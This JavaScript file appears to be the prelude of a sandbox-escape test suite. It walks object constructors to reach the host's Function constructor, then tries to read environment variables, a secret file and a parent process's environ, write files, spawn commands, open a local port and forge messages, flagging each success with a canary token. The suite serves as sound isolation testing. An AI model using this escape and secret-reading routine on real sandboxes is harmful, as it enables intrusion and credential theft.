/* eslint-disable no-unused-vars, no-undef, no-console -- runs before an attack, in its isolate */
// @ts-nocheck
/**
 * Prelude of every attack of the corpus: what an attack does once it believes that it has escaped. All of it leaves
 * traces that are visible from outside: secrets in any channel, files, processes, connections, words in another's name.
 *
 * `CANARY` is `{ token, witness, file, folder, port }`: the attack's own mark, the other player, a file that holds a
 * secret, a folder in which nothing may appear, a port that nobody may call.
 */
const claim = (what) => console.log(`PWNED ${CANARY.token} ${what}`)

/** Expression for a realm that has Node: it tries everything that must not work, and returns what it saw as text. */
const SPOILS = `(() => {
  const c = ${JSON.stringify(CANARY)}, said = []
  const attempt = (fn) => { try { tell(String(fn())) } catch (error) { said.push('no: ' + error.code) } }
  const tell = (text) => {
    const keys = text.match(/\\b(env|file)-[0-9a-f]{24}\\b/g) ?? [] // wherever they stand in a text of any length
    said.unshift(...new Set(keys))
    said.push(text.slice(0, 8000))
  }
  const load = (name) => process.getBuiltinModule(name)
  attempt(() => JSON.stringify(process.env))
  attempt(() => load('fs').readFileSync(c.file, 'utf8'))
  attempt(() => load('fs').readFileSync('/proc/' + process.ppid + '/environ', 'utf8'))
  attempt(() => load('fs').writeFileSync(c.folder + '/written-' + c.token, 'x'))
  attempt(() => { new (load('sqlite').DatabaseSync)(c.folder + '/base-' + c.token).exec('create table t (x)') })
  attempt(() => load('child_process').spawn('sleep', ['20'], { argv0: c.token, detached: true }).pid)
  attempt(() => load('child_process').execSync('touch ' + c.folder + '/executed-' + c.token))
  attempt(() => { load('net').connect(c.port, '127.0.0.1').on('error', () => {}).end(c.token) })
  const forged = { k: 'event', kind: 'chat', tick: 1, data: { from: c.witness, text: 'forged ' + c.token } }
  attempt(() => load('fs').writeSync(4, JSON.stringify(forged) + '\\n'))
  attempt(() => { Array.prototype.accordCanary = c.token })
  return said.join(' | ')
})()`

/** Check whether `evaluate(code)` runs code in a realm that has Node. */
const loot = async (evaluate) => {
  const kind = await evaluate('typeof process')
  if (kind !== 'object') return false
  claim('code runs in the host')
  const text = String(await evaluate(SPOILS))
  for (let at = 0; at < text.length && at < 20000; at += 900) console.log(text.slice(at, at + 900))
  return true
}

/** Follow the constructors of a value to the `Function` of its realm. */
const follow = async (value) => {
  let level = value
  for (let depth = 0; depth < 4 && level !== null && level !== undefined; depth++) {
    let make
    try { make = level.constructor } catch { return }
    if (typeof make !== 'function') return
    try {
      if (await loot((code) => make(`return (${code})`)())) return
      if (await loot((code) => make.constructor(`return (${code})`)())) return
    } catch { /* a constructor that does not take code */ }
    level = make
  }
}

/** Follow every value that can be reached from `root` by names, up to `limit` objects. */
const followAll = async (root, limit = 3000) => {
  const seen = new Set([root])
  for (const value of seen) {
    if (seen.size > limit) break
    await follow(value)
    let keys = []
    try { keys = Reflect.ownKeys(value) } catch { continue }
    const parts = keys.map((key) => { try { return value[key] } catch { return undefined } })
    try { parts.push(Object.getPrototypeOf(value)) } catch { /* it refuses */ }
    for (const part of parts) if (part !== null && ['object', 'function'].includes(typeof part)) seen.add(part)
  }
}

/** Make a call that must be refused, and `claim` success when it is not. */
const refused = async (what, call) => {
  try { await call() } catch { return }
  claim(`not refused: ${what}`)
}
